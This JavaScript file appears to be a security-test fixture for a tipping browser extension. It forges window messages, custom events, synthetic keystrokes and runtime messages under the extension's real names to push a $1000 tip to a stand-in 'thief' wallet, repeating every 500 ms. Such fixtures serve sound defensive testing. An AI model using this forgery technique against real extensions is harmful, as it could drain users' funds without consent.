/**
 * Speaks to an extension as if it were one of its own parts: events and window messages under its real names
 * (`messageNames`, put before this script: anybody can read them in the source), clicks and keys that nobody
 * made, and the runtime if the page can see one. Counts what it sent in `data-attempts` on the root element,
 * so that a test knows the attack has run.
 */
/* global messageNames */
const names = [...messageNames, 'rill', 'rill:tip', 'rill/changed', 'monetization']
const tip = {
  actId: '0190c0de-0000-7000-8000-000000000000',
  pageUrl: location.href,
  payee: 'https://wallet.harbour.test/thief',
  amount: { value: '100000', assetCode: 'USD', assetScale: 2 },
  shares: [{ address: 'https://wallet.harbour.test/thief', weight: 1 }],
}
let attempts = 0

function counted(act) {
  act()
  attempts += 1
  document.documentElement.dataset.attempts = String(attempts)
}

function forge() {
  for (const name of names) {
    const message = { type: name, name, kind: name, action: name, input: tip, payload: tip, ...tip }
    counted(() => window.postMessage(message, '*'))
    counted(() => window.postMessage(JSON.stringify(message), location.origin))
    counted(() => document.dispatchEvent(new CustomEvent(name, { detail: tip, bubbles: true })))
    counted(() => window.dispatchEvent(new CustomEvent(name, { detail: message })))
    counted(() => window.dispatchEvent(new MessageEvent('message', { data: message })))
  }
  const key = { key: '1', code: 'Digit1', altKey: true, shiftKey: true, bubbles: true }
  counted(() => document.dispatchEvent(new KeyboardEvent('keydown', key)))
  counted(() => document.body.dispatchEvent(new MouseEvent('contextmenu', { bubbles: true })))
  const runtime = globalThis.browser?.runtime ?? globalThis.chrome?.runtime
  if (runtime?.sendMessage) {
    counted(() => runtime.sendMessage('rill', { name: 'tip/keep', input: tip }, () => undefined))
  }
}

forge()
addEventListener('load', () => {
  forge()
  setInterval(forge, 500)
})
